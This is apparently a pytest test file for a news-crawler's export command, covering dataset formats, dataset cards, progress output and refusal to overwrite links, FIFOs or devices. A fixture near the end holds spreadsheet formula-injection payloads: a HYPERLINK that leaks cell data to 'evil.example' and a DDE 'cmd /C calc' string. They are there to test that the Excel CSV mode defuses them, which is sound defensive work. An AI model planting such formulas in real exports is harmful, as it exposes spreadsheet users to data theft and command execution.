"""`caucasus-crawler export`: datasets (JSON Lines, CSV, Parquet) with their dataset card, and
WARC, from the archive of a real demo crawl; and the progress shown on long work."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import resource
import socket
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import REFERENCE_TITLE, REPO, run_cli

from caucasus_crawler import export as export_module
from caucasus_crawler.archive import Archive
from caucasus_crawler.mirror import MirrorServer
from caucasus_crawler.progress import Progress

REFERENCE_URL = "https://civil.ge/archives/626112"
DEMO_OUTLETS = ("civil_ge", "news_am", "report_az")  # three outlets keep the crawl short


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("export") / "archive.db"
    run_cli("crawl", *DEMO_OUTLETS, "--demo", "--db", str(path))
    return path


@pytest.fixture(scope="module")
def archived(db) -> dict[str, dict]:
    """Every archived article as `Archive.article` gives it, by URL."""
    with Archive.open_read_only(db) as archive:
        ids = [row[0] for row in archive.db.execute("SELECT id FROM articles")]
        return {a["url"]: a for a in (archive.article(i) for i in ids)}


def exported(db: Path, out: Path, *args: str, **run) -> subprocess.CompletedProcess:
    return run_cli("export", "--db", str(db), "-o", str(out), *args, **run)


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def read_card(path: Path) -> tuple[dict, str]:
    _, header, body = path.read_text("utf-8").split("---\n", 2)
    return yaml.safe_load(header), body


@pytest.mark.slow
def test_jsonl_has_one_record_per_article_with_its_links(db, archived, tmp_path):
    out = tmp_path / "articles.jsonl"
    result = exported(db, out)
    records = read_jsonl(out)
    assert len(records) == len(archived) and len({r["url"] for r in records}) == len(records)
    assert f"Exported {len(records):,} article(s) to {out} (jsonl" in result.stdout
    assert [list(r) for r in records[:1]] == [export_module.NAMES]
    for record in records:
        article = archived[record["url"]]
        assert record["title"] == article["title"] and record["text"] == article["body"]
        assert record["categories"] == article["categories"] and record["tags"] == article["tags"]
        assert record["authors"] == article["authors"]
        assert record["published"] == article["published"]
        assert record["language"] == article["language"]
    reference = next(r for r in records if r["url"] == REFERENCE_URL)
    assert reference["title"] == REFERENCE_TITLE
    assert (reference["outlet"], reference["country"]) == ("Civil.ge", "GE")
    assert "South Caucasus News" in reference["categories"]
    assert "ღვინის" in out.read_text("utf-8")  # Georgian as it is, not \\u escapes


@pytest.mark.slow
def test_csv_reads_back_with_its_types(db, archived, tmp_path):
    import pyarrow as pa
    import pyarrow.csv as pacsv

    out = tmp_path / "articles.csv"
    exported(db, out, "--format", "csv")
    table = pacsv.read_csv(out)
    assert table.num_rows == len(archived) and table.column_names == export_module.NAMES
    assert table.schema.field("id").type == pa.int64()
    assert table.schema.field("word_count").type == pa.int64()
    assert pa.types.is_timestamp(table.schema.field("published").type)
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:  # bodies keep their paragraphs; lists are JSON arrays
        article = archived[row["url"]]
        assert row["text"] == article["body"] and "\n\n" in row["text"]
        assert json.loads(row["categories"]) == article["categories"]
        assert int(row["word_count"]) == article["word_count"]


@pytest.mark.slow
def test_parquet_has_the_explicit_schema_and_reads_back(db, archived, tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = tmp_path / "articles.parquet"
    exported(db, out)  # the format from the name
    table = pq.read_table(out)
    assert table.schema.equals(export_module.arrow_schema(), check_metadata=False)
    assert table.num_rows == len(archived)
    assert table.schema.field("categories").type == pa.list_(pa.string())
    rows = {r["url"]: r for r in table.to_pylist()}
    reference = rows[REFERENCE_URL]
    assert reference["published"].isoformat() == "2024-09-04T09:27:41+00:00"  # 13:27:41+04:00
    assert reference["categories"] == archived[REFERENCE_URL]["categories"]
    assert reference["text"] == archived[REFERENCE_URL]["body"]
    assert all(rows[url]["tags"] == a["tags"] for url, a in archived.items())


@pytest.mark.slow
def test_parquet_is_written_in_row_groups(db, tmp_path, monkeypatch):
    import pyarrow.parquet as pq

    monkeypatch.setattr(export_module, "BATCH_ROWS", 7)
    out = tmp_path / "groups.parquet"
    with Archive.open_read_only(db) as archive:
        result = export_module.export(archive, "parquet", out, progress=_quiet)
    groups = pq.ParquetFile(out).metadata.num_row_groups
    assert groups == math.ceil(result.records / 7) and groups > 1
    assert pq.read_table(out).num_rows == result.records


def _quiet(*args, **kwargs) -> Progress:
    return Progress(*args, stream=io.StringIO(), **kwargs)


@pytest.mark.slow
@pytest.mark.parametrize(
    "args, filters",
    [
        (["--site", "civil_ge"], {"sites": ["civil_ge"]}),
        (["--site", "news_am", "--site", "report_az"], {"sites": ["news_am", "report_az"]}),
        (["--language", "en", "--site", "civil_ge"], {"languages": ["en"], "sites": ["civil_ge"]}),
        (["--category", "Economy"], {"categories": ["Economy"]}),
        (["--since", "2025-01-01", "--until", "2025-12-31"], {}),
    ],
)
def test_filters_select_the_articles_the_archive_counts(db, archived, tmp_path, args, filters):
    from datetime import date

    out = tmp_path / "part.jsonl"
    exported(db, out, *args)
    records = read_jsonl(out)
    if "--since" in args:
        filters = {"since": date(2025, 1, 1), "until": date(2025, 12, 31)}
        assert all("2025-01-01" <= r["published"][:10] <= "2025-12-31" for r in records)
    with Archive.open_read_only(db) as archive:
        assert len(records) == archive.count_articles(**filters) > 0
    for record in records:
        assert record["site"] in filters.get("sites", [record["site"]])
        assert record["language"] in filters.get("languages", [record["language"]])
        for category in filters.get("categories", []):
            assert category in record["categories"]


@pytest.mark.slow
def test_the_dataset_card_describes_the_export(db, archived, tmp_path):
    out = tmp_path / "data" / "articles.parquet"
    result = exported(db, out, "--site", "civil_ge", "--site", "news_am")
    card = out.parent / "README.md"
    assert f"dataset card  {card}" in result.stdout
    header, body = read_card(card)
    by_site = {"civil_ge": 0, "news_am": 0}
    languages: dict[str, int] = {}
    for article in archived.values():
        if article["site"] in by_site:
            by_site[article["site"]] += 1
            languages[article["language"]] = languages.get(article["language"], 0) + 1
    total = sum(by_site.values())
    info = header["dataset_info"]
    assert info["splits"] == [
        {"name": "train", "num_bytes": out.stat().st_size, "num_examples": total}
    ]
    assert [f["name"] for f in info["features"]] == export_module.NAMES
    assert {"name": "published", "dtype": "timestamp[ms, tz=UTC]"} in info["features"]
    assert {"name": "categories", "sequence": "string"} in info["features"]
    assert header["configs"][0]["data_files"] == [{"split": "train", "path": "articles.parquet"}]
    assert header["language"] == sorted(languages)
    assert header["size_categories"] == ["n<1K"]
    for site, n in by_site.items():
        assert f"| {site} |" in body and f"| {n:,} |" in body
    for language, n in languages.items():
        assert f"| {language} | {n:,} |" in body
    assert "- Selection: outlet civil_ge, news_am" in body
    dates = sorted(a["published"][:10] for a in archived.values() if a["site"] in by_site)
    assert f"- Published: {dates[0]} to {dates[-1]}" in body
    for name in export_module.NAMES:
        assert f"| `{name}` |" in body
    assert "https://civil.ge/" in body and "https://news.am/" in body
    assert "report.az" not in body


@pytest.mark.slow
def test_the_card_never_replaces_a_readme_of_someone_else(db, tmp_path):
    mine = tmp_path / "README.md"
    mine.write_text("# My project\n", "utf-8")
    result = exported(db, tmp_path / "articles.jsonl")
    assert mine.read_text("utf-8") == "# My project\n"
    card = tmp_path / "articles.jsonl.README.md"
    assert f"dataset card  {card}" in result.stdout
    header, _ = read_card(card)
    assert {"name": "categories", "sequence": "string"} in header["dataset_info"]["features"]
    # a card of ours is rewritten by the next export, describing both (see below)
    exported(db, tmp_path / "sub" / "a.csv")
    exported(db, tmp_path / "sub" / "b.jsonl")
    header, _ = read_card(tmp_path / "sub" / "README.md")
    assert [c["data_files"][0]["path"] for c in header["configs"]] == ["a.csv", "b.jsonl"]


@pytest.mark.slow
def test_one_card_describes_every_export_in_its_folder(db, archived, tmp_path):
    """A second export into a folder used to replace the first one's card (issue 21)."""
    everything, georgian = tmp_path / "articles.jsonl", tmp_path / "georgian.jsonl"
    exported(db, everything)
    exported(db, georgian, "--language", "ka")
    header, body = read_card(tmp_path / "README.md")
    ka = sum(a["language"] == "ka" for a in archived.values())
    assert 0 < ka < len(archived)
    assert header["configs"] == [
        {"config_name": "articles", "data_files": [{"split": "train", "path": "articles.jsonl"}]},
        {"config_name": "georgian", "data_files": [{"split": "train", "path": "georgian.jsonl"}]},
    ]
    splits = {i["config_name"]: i["splits"][0] for i in header["dataset_info"]}
    assert splits["articles"]["num_examples"] == len(archived)
    assert splits["georgian"] == {
        "name": "train", "num_bytes": georgian.stat().st_size, "num_examples": ka
    }  # fmt: skip
    assert f"| georgian | `georgian.jsonl` (jsonl) | {ka:,} | language ka |" in body
    assert f"| articles | `articles.jsonl` (jsonl) | {len(archived):,} | every article |" in body
    assert "## articles\n" in body and "## georgian\n" in body
    assert "- Selection: language ka" in body and "- Selection: every article" in body
    # written again, an export replaces its own entry; one whose file is gone is dropped
    exported(db, georgian, "--language", "ka", "--site", "civil_ge")
    everything.unlink()
    exported(db, tmp_path / "report.jsonl", "--site", "report_az")
    header, body = read_card(tmp_path / "README.md")
    assert [c["config_name"] for c in header["configs"]] == ["georgian", "report"]
    assert "- Selection: outlet civil_ge; language ka" in body and "every article" not in body


@pytest.mark.slow
def test_the_card_counts_in_words_and_links_no_placeholder(db, tmp_path):
    one = ["--site", "civil_ge", "--since", "2024-09-04", "--until", "2024-09-04"]
    exported(db, tmp_path / "one.csv", *one, "--excel")
    _, body = read_card(tmp_path / "README.md")
    assert "1 news article from 1 outlet in 1 language, exported on" in body
    assert "(csv for spreadsheets," in body and "1 news articles" not in body
    assert "github.com" not in body  # the project has no public home to link to yet
    assert "[Civil.ge](https://civil.ge/)" in body  # the outlet's own page is linked


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_times_load_timezone_aware_with_hugging_face_datasets(db, tmp_path, monkeypatch, fmt):
    """`datasets` read `2024-09-04T13:27:41+04:00` from JSON Lines as a naive 09:27:41, UTC
    that looks like local time; loaded through the folder's card, it is an aware UTC time."""
    from datetime import UTC, datetime

    monkeypatch.setenv("HF_HUB_OFFLINE", "1")  # a local folder: nothing to fetch
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    from datasets import load_dataset

    folder = tmp_path / "dataset"
    exported(db, folder / f"articles.{fmt}")
    exported(db, folder / f"georgian.{fmt}", "--language", "ka")
    cache = str(tmp_path / "cache")
    articles = load_dataset(str(folder), "articles", split="train", cache_dir=cache)
    reference = next(r for r in articles if r["url"] == REFERENCE_URL)
    assert reference["published"] == datetime(2024, 9, 4, 9, 27, 41, tzinfo=UTC)
    assert reference["published"].utcoffset() is not None
    assert all(r["first_seen"].utcoffset() is not None for r in articles)
    georgian = load_dataset(str(folder), "georgian", split="train", cache_dir=cache)
    assert len(georgian) and {r["language"] for r in georgian} == {"ka"}


@pytest.mark.slow
def test_warc_holds_the_stored_raw_responses(db, tmp_path):
    from warcio.archiveiterator import ArchiveIterator

    out = tmp_path / "raw.warc.gz"
    result = exported(db, out, "--format", "warc", "--site", "civil_ge")
    with Archive.open_read_only(db) as archive:
        stored = {r["url"]: r for r in archive.responses(sites=["civil_ge"])}
    assert stored and f"Exported {len(stored):,} response(s)" in result.stdout
    records = {}
    with out.open("rb") as f:
        for record in ArchiveIterator(f, check_digests=True):
            assert record.rec_headers.protocol == "WARC/1.1"  # as the warcinfo record says
            if record.rec_type == "warcinfo":
                assert b"WARC File Format 1.1" in record.content_stream().read()
                continue
            assert record.rec_type == "response"
            url = record.rec_headers.get_header("WARC-Target-URI")
            records[url] = (record.http_headers, record.content_stream().read())
            assert record.rec_headers.get_header("WARC-Date").endswith("Z")
    assert set(records) == set(stored) and REFERENCE_URL in records
    http, body = records[REFERENCE_URL]
    assert body == stored[REFERENCE_URL]["body"]
    assert http.get_statuscode() == "200"
    assert http.get_header("Content-Length") == str(len(body))
    assert REFERENCE_TITLE.encode() in body or b"Kaladze" in body
    assert not (tmp_path / "README.md").exists()  # WARC is no dataset: no card


@pytest.mark.slow
@pytest.mark.parametrize(
    "args, message",
    [
        (["-o", "x.jsonl", "--site", "nowhere_ge"], "--site nowhere_ge: not in"),
        (["-o", "x.json"], "say which --format (jsonl, csv, parquet or warc)"),
        (["-o", "x.warc.gz", "--language", "en"], "--format warc exports raw responses"),
        (["-o", "x.csv", "--until", "yesterday"], "--until 'yesterday': give a day"),
    ],
)
def test_export_mistakes_are_one_line(db, tmp_path, args, message):
    args = [str(tmp_path / a) if a.startswith("x.") else a for a in args]
    result = run_cli("export", "--db", str(db), *args, check=False)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and message in result.stderr
    assert not list(tmp_path.iterdir())  # nothing half-written


@pytest.mark.slow
def test_an_empty_selection_is_an_error_that_writes_nothing(db, tmp_path):
    earlier = tmp_path / "earlier.jsonl"
    exported(db, earlier, "--site", "civil_ge")  # a card that must not turn into "0 articles"
    before = _snapshot(tmp_path)
    result = exported(
        db, tmp_path / "empty.jsonl", "--since", "2025-01-01", "--until", "2024-01-01", check=False
    )
    _one_line_refusal(result, "no article matches", "published since 2025-01-01")
    assert result.stdout == "" and _snapshot(tmp_path) == before
    with Archive.open_read_only(db) as archive, pytest.raises(export_module.ExportError) as error:
        export_module.export(
            archive, "warc", tmp_path / "new" / "raw.warc.gz",
            export_module.Filters(sites=["never_crawled_am"]), progress=_quiet,
        )  # fmt: skip
    assert "no stored response matches" in str(error.value)
    assert not (tmp_path / "new").exists()


# -- progress ------------------------------------------------------------------------------------
def test_progress_is_a_bar_on_a_terminal_and_lines_otherwise():
    lines = io.StringIO()
    with Progress("export", total=3, interval=0, stream=lines, tty=False) as progress:
        for _ in range(3):
            progress.update()
    assert [line.split(" ", 2)[2] for line in lines.getvalue().splitlines()] == [
        "export: 1/3 articles, 0 s",
        "export: 2/3 articles, 0 s",
        "export: 3/3 articles, 0 s",
    ]
    bar = io.StringIO()
    with Progress("export", total=3, stream=bar, tty=True) as progress:
        progress.update(3)
    assert "export: 100%" in bar.getvalue() and "3/3" in bar.getvalue()
    quiet = io.StringIO()
    with Progress("export", total=3, stream=quiet, tty=False) as progress:
        progress.update(3)  # within the interval: no line
    assert quiet.getvalue() == ""


@pytest.mark.slow
def test_the_crawl_progress_extension_logs_lines_when_not_on_a_terminal(tmp_path):
    db = tmp_path / "progress.db"
    with MirrorServer() as mirror:
        result = subprocess.run(
            [sys.executable, "-m", "scrapy", "crawl", "report_az"]
            + ["-s", f"ARCHIVE_PATH={db}", "-s", f"MIRROR_ADDRESS={mirror.address}"]
            + ["-s", "LOG_LEVEL=WARNING", "-s", "PROGRESS_INTERVAL=0.2"]
            + ["-s", 'EXTENSIONS={"caucasus_crawler.progress.CrawlProgress": 500}'],
            cwd=REPO,
            capture_output=True,
            text=True,
            timeout=300,
        )
    assert result.returncode == 0, result.stderr
    lines = [line for line in result.stderr.splitlines() if " crawl (report_az): " in line]
    with Archive.open_read_only(db) as archive:
        run = archive.run(1)
    assert lines and lines[-1].endswith(" s") and "; done, " in lines[-1]
    assert (
        f"{run['requests']} requests, {run['pages']} pages, {run['articles_new']} articles"
        in lines[-1]
    )


# -- outputs export must never replace, and failures that leave nothing (issue 17) ---------------
def _one_line_refusal(result: subprocess.CompletedProcess, *words: str) -> None:
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
    for word in words:
        assert word in result.stderr, result.stderr


def _private_device(path: Path) -> None:
    """A character device of our own (/dev/null's numbers), never the machine's: replacing it
    harms nothing. Making one takes root."""
    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device node takes root")


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["fifo", "socket", "device", "directory", "symlink"])
def test_export_never_replaces_what_is_not_a_regular_file(db, tmp_path, kind):
    target = tmp_path / "out"
    victim = tmp_path / "victim.jsonl"
    victim.write_text("someone else's\n", "utf-8")
    held = None
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "socket":
        if len(str(target)) > 100:
            pytest.skip("the path is too long for a Unix socket")
        held = socket.socket(socket.AF_UNIX)
        held.bind(str(target))
    elif kind == "device":
        _private_device(target)
    elif kind == "directory":
        target.mkdir()
    else:
        target.symlink_to(victim)
    before = sorted(tmp_path.iterdir())
    try:
        result = exported(db, target, "--format", "jsonl", check=False)
        is_kind = {
            "fifo": stat.S_ISFIFO,
            "socket": stat.S_ISSOCK,
            "device": stat.S_ISCHR,
            "directory": stat.S_ISDIR,
            "symlink": stat.S_ISLNK,
        }[kind]
        assert is_kind(os.lstat(target).st_mode)  # still what it was
    finally:
        if held is not None:
            held.close()
    _one_line_refusal(result, str(target))
    assert victim.read_text("utf-8") == "someone else's\n"
    assert sorted(tmp_path.iterdir()) == before  # no card, no temporary file
    if kind == "symlink":
        assert os.readlink(target) == str(victim)


@pytest.mark.slow
def test_a_planted_partial_link_is_never_written_through(db, archived, tmp_path):
    out = tmp_path / "out.jsonl"
    victim = tmp_path / "victim"
    victim.write_text("keep me\n", "utf-8")
    (tmp_path / "out.jsonl.partial").symlink_to(victim)  # the name earlier versions used
    exported(db, out)
    assert victim.read_text("utf-8") == "keep me\n"
    assert stat.S_ISREG(os.lstat(out).st_mode) and len(read_jsonl(out)) == len(archived)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "README.md",
        "out.jsonl",
        "out.jsonl.partial",  # the planted link, left alone
        "victim",
    ]


@pytest.mark.slow
def test_a_card_place_that_is_a_link_refuses_the_export(db, tmp_path):
    (tmp_path / "README.md").write_text("# My project\n", "utf-8")  # the card goes beside it
    victim = tmp_path / "victim"
    victim.write_text("keep me\n", "utf-8")
    (tmp_path / "out.jsonl.README.md").symlink_to(victim)
    before = sorted(tmp_path.iterdir())
    result = exported(db, tmp_path / "out.jsonl", check=False)
    _one_line_refusal(result, "out.jsonl.README.md", "symbolic link")
    assert victim.read_text("utf-8") == "keep me\n"
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.slow
def test_a_readme_that_is_a_fifo_is_never_opened(db, tmp_path):
    os.mkfifo(tmp_path / "README.md")  # reading it would wait for a writer forever
    result = exported(db, tmp_path / "out.jsonl", timeout=60)
    card = tmp_path / "out.jsonl.README.md"
    assert f"dataset card  {card}" in result.stdout and read_card(card)[0]["configs"]
    assert stat.S_ISFIFO(os.lstat(tmp_path / "README.md").st_mode)


@pytest.mark.slow
def test_two_exports_to_one_path_each_write_their_own_file(db, archived, tmp_path):
    """Export B runs whole while export A is halfway: each writes a file of its own, A's
    replaces B's when it is done, and no temporary file is left."""
    out = tmp_path / "out.jsonl"
    with Archive.open_read_only(db) as first, Archive.open_read_only(db) as second:

        class Meddling(Progress):
            def update(self, n: int = 1) -> None:
                super().update(n)
                if self.done == 5:
                    export_module.export(
                        second, "jsonl", out, export_module.Filters(sites=["civil_ge"]),
                        progress=_quiet,
                    )  # fmt: skip
                    assert {r["site"] for r in read_jsonl(out)} == {"civil_ge"}

        result = export_module.export(
            first, "jsonl", out, progress=lambda *a, **k: Meddling(*a, stream=io.StringIO(), **k)
        )
    records = read_jsonl(out)  # every line whole: A's file, never a mixture
    assert result.records == len(records) == len(archived)
    assert {r["url"] for r in records} == set(archived)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["README.md", "out.jsonl"]


@pytest.fixture(scope="module")
def rollback_db(db, tmp_path_factory) -> Path:
    """The archive in rollback-journal mode: read, it writes no file (WAL mode maps a 32 kB
    `-shm` file), so that a limit on file size falls on the export's files alone."""
    path = tmp_path_factory.mktemp("rollback") / "archive.db"
    with sqlite3.connect(db) as source, sqlite3.connect(path) as copy:
        source.backup(copy)
        copy.execute("PRAGMA journal_mode=DELETE")
    return path


def exported_on_a_full_disk(db: Path, out: Path, limit: int, *args: str):
    """`export` in a process whose files cannot grow past `limit` bytes (RLIMIT_FSIZE): a write
    past it fails with EFBIG, as one past the end of a full disk fails with ENOSPC. Python
    ignores SIGXFSZ, so the write fails instead of the process being killed."""

    def limit_file_size() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(
        [sys.executable, "-m", "caucasus_crawler.cli", "export", "--db", str(db)]
        + ["-o", str(out), *args],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
        preexec_fn=limit_file_size,
    )


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir())}


@pytest.mark.slow
@pytest.mark.parametrize("name", ["out.jsonl", "out.csv", "out.parquet", "out.warc.gz"])
def test_an_export_that_fails_midway_leaves_what_was_there(rollback_db, tmp_path, name):
    out = tmp_path / name
    run_cli("export", "--db", str(rollback_db), "-o", str(out))  # an earlier export, whole
    before = _snapshot(tmp_path)
    assert out.stat().st_size > 40_000
    result = exported_on_a_full_disk(rollback_db, out, 32_768)
    _one_line_refusal(result, str(out), "File too large")
    assert _snapshot(tmp_path) == before  # no partial file, no card, the earlier ones intact


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_card_that_cannot_be_written_takes_its_export_with_it(rollback_db, tmp_path, fmt):
    """The data file is written whole, then the disk is full for the card: neither stays
    (earlier, the data stayed, the failure was reported, and README.md was left cut)."""
    one = ["--site", "civil_ge", "--since", "2024-09-04", "--until", "2024-09-04"]
    sizes = tmp_path / "sizes"
    run_cli("export", "--db", str(rollback_db), "-o", str(sizes / f"one.{fmt}"), *one)
    data, card = (sizes / f"one.{fmt}").stat().st_size, (sizes / "README.md").stat().st_size
    assert data < card, "the card must be the larger file for this test"
    full = tmp_path / "full"
    full.mkdir()
    result = exported_on_a_full_disk(rollback_db, full / f"one.{fmt}", (data + card) // 2, *one)
    _one_line_refusal(result, str(full / "README.md"), "File too large")
    assert list(full.iterdir()) == []


@pytest.mark.slow
def test_until_the_last_day_there_is_exports_every_dated_article(db, archived, tmp_path):
    out = tmp_path / "all.jsonl"
    exported(db, out, "--until", "9999-12-31", "--since", "0001-01-01")
    assert {r["url"] for r in read_jsonl(out)} == set(archived)
    assert "published until 9999-12-31" in read_card(tmp_path / "README.md")[1]


@pytest.mark.slow
@pytest.mark.parametrize(
    "args, words",
    [
        (["-o", "\udcff.jsonl"], ["\\xff.jsonl", "not UTF-8"]),
        (["-o", "x.jsonl", "--category", "Politik\udcff"], ["--category", "not UTF-8"]),
        (["-o", "x.jsonl", "--site", "\udcff"], ["--site", "not UTF-8"]),
    ],
)
def test_arguments_that_are_not_utf8_are_one_line(db, tmp_path, args, words):
    """A byte that is not UTF-8 on a Linux command line reaches Python as a lone surrogate."""
    args = [str(tmp_path / a) if ".jsonl" in a else a for a in args]
    result = run_cli("export", "--db", str(db), *args, check=False)
    _one_line_refusal(result, *words)
    assert not list(tmp_path.iterdir())


# -- CSV for spreadsheets ------------------------------------------------------------------------
FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A2,"Read more")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body": "+1+2\n\n-3 is a number; so is this paragraph's start",
}


@pytest.fixture(scope="module")
def formula_db(db, tmp_path_factory) -> Path:
    """The archive with the reference article's title, summary and body beginning as
    spreadsheet formulas do (as an outlet's page may)."""
    path = tmp_path_factory.mktemp("formulas") / "archive.db"
    with sqlite3.connect(db) as source, sqlite3.connect(path) as copy:
        source.backup(copy)
        copy.execute(
            "UPDATE articles SET title = :title, description = :description, body = :body"
            " WHERE url = :url",
            {**FORMULAS, "url": REFERENCE_URL},
        )
    return path


@pytest.mark.slow
def test_csv_keeps_the_data_as_it_is_and_excel_csv_defuses_formulas(formula_db, tmp_path):
    plain, excel = tmp_path / "plain" / "a.csv", tmp_path / "excel" / "a.csv"
    exported(formula_db, plain)
    result = exported(formula_db, excel, "--excel")
    assert "(csv for spreadsheets," in result.stdout
    with plain.open(encoding="utf-8", newline="") as f:
        rows = {row["url"]: row for row in csv.DictReader(f)}
    assert rows[REFERENCE_URL]["title"] == FORMULAS["title"]  # programs get the data
    assert rows[REFERENCE_URL]["text"] == FORMULAS["body"]
    raw = excel.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,url,")  # a BOM: spreadsheets then read UTF-8
    with excel.open(encoding="utf-8-sig", newline="") as f:
        defused = {row["url"]: row for row in csv.DictReader(f)}
    assert defused[REFERENCE_URL]["title"] == "'" + FORMULAS["title"]
    assert defused[REFERENCE_URL]["description"] == "'" + FORMULAS["description"]
    assert defused[REFERENCE_URL]["text"] == "'" + FORMULAS["body"]
    for url, row in rows.items():  # nothing else changes
        if url != REFERENCE_URL:
            assert defused[url] == row
    _, body = read_card(tmp_path / "excel" / "README.md")
    assert "--excel" in body and "'" in body


@pytest.mark.slow
def test_excel_is_a_flavour_of_csv_only(db, tmp_path):
    result = exported(db, tmp_path / "x.jsonl", "--excel", check=False)
    _one_line_refusal(result, "--excel")
    assert not list(tmp_path.iterdir())
